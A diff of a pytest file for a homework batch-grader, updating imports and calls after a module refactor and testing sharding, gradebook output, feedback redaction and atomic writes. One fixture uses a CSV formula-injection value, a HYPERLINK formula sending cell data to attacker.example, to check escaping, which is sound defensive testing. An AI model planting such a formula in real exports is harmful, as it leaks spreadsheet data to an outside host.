@@ -1,7 +1,7 @@
 """Batch grading: a generated cohort graded in parallel matches grading each one alone; an
 interrupted batch (a real SIGINT, as Ctrl-C sends) records no grade and resumes; two shards
 merged give the same gradebook; the gradebook, the feedback and the cohort report are built
-from the one results model, `grader.report.Report`.
+from the one results model, `grader.results.report.Report`.
 
 The cohort (10 students) mixes full solutions, partial and broken work. Identical submissions
 are still graded separately by the batch; only the "graded alone" reference is computed once per
@@ -24,8 +24,21 @@ from pathlib import Path
 import pytest
 from support import ROOT, data_env, two_at_a_time
 
-from grader import batch, cohort, options, uploads
-from grader.report import FAILED, PASSED, SKIPPED, CheckResult, Report, RunInfo, parse_check_id
+from grader import options, uploads
+from grader.batch import cohort, runner
+from grader.batch import gradebook as book
+from grader.batch import main as batch
+from grader.results import render
+from grader.results.atomic import write_atomic
+from grader.results.report import (
+    FAILED,
+    PASSED,
+    SKIPPED,
+    CheckResult,
+    Report,
+    RunInfo,
+    parse_check_id,
+)
 
 SOLUTIONS, HOMEWORK = ROOT / "solutions", ROOT / "homework"
 IGNORE = shutil.ignore_patterns("*.bin", ".venv", "__pycache__", ".server.log")
@@ -62,15 +75,15 @@ def test_parse_check_id_and_shard() -> None:
     for bad in ("3", "a.b", "3.2.1", "0.1x"):
         with pytest.raises(ValueError, match=r"STAGE\.N"):
             parse_check_id(bad)
-    assert batch.parse_shard("2/4") == (2, 4)
+    assert runner.parse_shard("2/4") == (2, 4)
     for bad in ("0/2", "3/2", "1", "a/b"):
         with pytest.raises(Exception, match="shard"):
-            batch.parse_shard(bad)
+            runner.parse_shard(bad)
 
 
 def test_shards_partition_the_cohort(tmp_path: Path) -> None:
     names = [tmp_path / f"s{i:02d}" for i in range(11)]
-    parts = [batch.shard_of(names, (i, 3)) for i in (1, 2, 3)]
+    parts = [runner.shard_of(names, (i, 3)) for i in (1, 2, 3)]
     assert sorted(p for part in parts for p in part) == names
     assert max(map(len, parts)) - min(map(len, parts)) <= 1
 
@@ -85,14 +98,15 @@ def test_feedback_hides_hidden_details_and_the_seed() -> None:
         }
     )
     assert alice.stage_scores() == {1: (2.0, 3.0), 3: (0.0, 1.0)}
-    text = alice.feedback("alice")
+    text = render.feedback(alice, "alice", runner.redactor(alice))
     assert "Score: 2 / 4" in text and "no /ping in ./predict.py" in text
     assert "secret record" not in text, "hidden checks' details stay hidden"
     assert "987654321" not in text and "/home/teacher" not in text
 
 
 def test_gradescope_names_do_not_repeat_their_number_and_hold_no_seed() -> None:
-    data = fake_report({"1.1": (PASSED, 2, ""), "6.9": (SKIPPED, 2, "no engine")}).gradescope()
+    report = fake_report({"1.1": (PASSED, 2, ""), "6.9": (SKIPPED, 2, "no engine")})
+    data = render.gradescope(report, runner.redactor(report))
     assert [(t["number"], t["name"]) for t in data["tests"]] == [
         ("1.1", "check 1.1"),
         ("6.9", "check 6.9"),
@@ -105,7 +119,7 @@ def test_gradebook_max_is_the_runs_and_a_grader_error_adds_no_column() -> None:
     alice = fake_report({"1.1": (PASSED, 2, ""), "3.2": (FAILED, 1, "no")})
     bob = fake_report({"1.1": (FAILED, 2, "train.py crashed"), "3.2": (SKIPPED, 1, "")})
     carol = Report.failure("/x/carol", "credit", "the grader was stopped after 1800 s")
-    header, rows = batch.gradebook_rows({"bob": bob, "alice": alice, "carol": carol}, [1, 3])
+    header, rows = book.gradebook_rows({"bob": bob, "alice": alice, "carol": carol}, [1, 3])
     assert header == ["student_id", "folder", "1 train", "3 fastapi", "total", "max", "status"]
     assert rows == [
         ["alice", "alice", "2", "0", "2", "3", "graded"],
@@ -120,12 +134,12 @@ def test_gradebook_roster_bom_escaping_and_permissions(tmp_path: Path) -> None:
         "\ufefffolder,student_id,email\nhéctor,s-001,hector@example.org\nabsent,s-002,a@b.c\n",
         encoding="utf-8",
     )
-    roster = batch.Roster.read(roster_csv)
+    roster = book.Roster.read(roster_csv)
     evil = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
     reports = {"héctor": fake_report({"1.1": (PASSED, 2, "")}), evil: fake_report({})}
     old = os.umask(0o022)
     try:
-        path = batch.write_gradebook(tmp_path, reports, [1], roster)
+        path = book.write_gradebook(tmp_path, reports, [1], roster)
     finally:
         os.umask(old)
     raw = path.read_bytes()
@@ -140,7 +154,7 @@ def test_gradebook_roster_bom_escaping_and_permissions(tmp_path: Path) -> None:
     assert stat.S_IMODE(path.stat().st_mode) == 0o644, "the instructor's group reads it"
     (tmp_path / "bad.csv").write_text("name,email\n")
     with pytest.raises(ValueError, match="folder and student_id"):
-        batch.Roster.read(tmp_path / "bad.csv")
+        book.Roster.read(tmp_path / "bad.csv")
 
 
 def test_cohort_report_names_the_run_and_shows_every_check(tmp_path: Path) -> None:
@@ -171,8 +185,8 @@ def test_cohort_report_names_the_run_and_shows_every_check(tmp_path: Path) -> No
 
 def test_results_are_written_atomically(tmp_path: Path) -> None:
     target = tmp_path / "students" / "x" / "results.json"
-    batch.write_atomic(target, "{}")
-    batch.write_atomic(target, '{"score": 1}')
+    write_atomic(target, "{}")
+    write_atomic(target, '{"score": 1}')
     assert json.loads(target.read_text()) == {"score": 1}
     assert [p.name for p in target.parent.iterdir()] == ["results.json"]
 
@@ -205,14 +219,16 @@ def test_grading_options_pass_through_batch() -> None:
     args = batch.build_parser().parse_args(
         ["subs", "--out", "o", "--start-seconds", "5", "--only", "3,4", "--seed", "9", "--docker"]
     )
-    forwarded = options.forward(vars(args), "batch")
-    assert "--docker" in forwarded and "--docker" not in options.forward(vars(args), "pytest")
+    given = options.from_values(Path("x"), vars(args))
+    forwarded = options.to_argv(given, "cli")
+    # --docker is a rule the checks apply: the contracts' pytest plugin takes it too
+    assert "--docker" in forwarded and "--docker" in options.to_argv(given, "pytest")
     assert forwarded[forwarded.index("--start-seconds") + 1] == "5.0"
-    assert args.spec == "credit", "a cohort is graded with the homework's spec by default"
+    assert args.spec_name == "credit", "a cohort is graded with the homework's spec by default"
     from grader.cli import parser
 
     cli = parser().parse_args(["x", *forwarded])
-    grading = options.session_options(Path("x"), vars(cli))
+    grading = options.from_values(Path("x"), vars(cli))
     assert (grading.start_seconds, grading.only, grading.seed) == (5.0, frozenset({3, 4}), 9)
     assert grading.spec.name == "credit" and grading.stage == 7
 
@@ -317,7 +333,7 @@ def test_nested_upload_is_graded_in_batch(tmp_path: Path) -> None:
     run = run_batch(str(cohort_dir), "--jobs", "2", "--out", str(out), "--only", "1,2",
                     *BATCH_ARGS)  # fmt: skip
     assert run.returncode == 0, run.stderr
-    reports = batch.collect(out)
+    reports = runner.collect(out)
     assert reports["zipped"].score == reports["plain"].score > 0
     assert reports["zipped"].root == "credit-card-hw"
     feedback = (out / "students" / "zipped" / "feedback.md").read_text()
@@ -389,7 +405,7 @@ def gradebook(out: Path) -> list[list[str]]:
 def differences(out: Path, alone: dict[str, Report], students: dict[str, str]) -> str:
     """For a failed comparison: each check whose status differs from the graded-alone run."""
     lines = []
-    reports = batch.collect(out)
+    reports = runner.collect(out)
     for name, kind in students.items():
         if name not in reports:
             continue
@@ -429,7 +445,7 @@ def test_batch_matches_alone_and_resumes_after_a_kill(
 ) -> None:
     students = make_cohort(tmp_path / "cohort")
     assert len(students) >= 10
-    expected_header, expected_rows = batch.gradebook_rows(
+    expected_header, expected_rows = book.gradebook_rows(
         {name: alone[kind] for name, kind in students.items()}, range(1, 8)
     )
     out = tmp_path / "out"
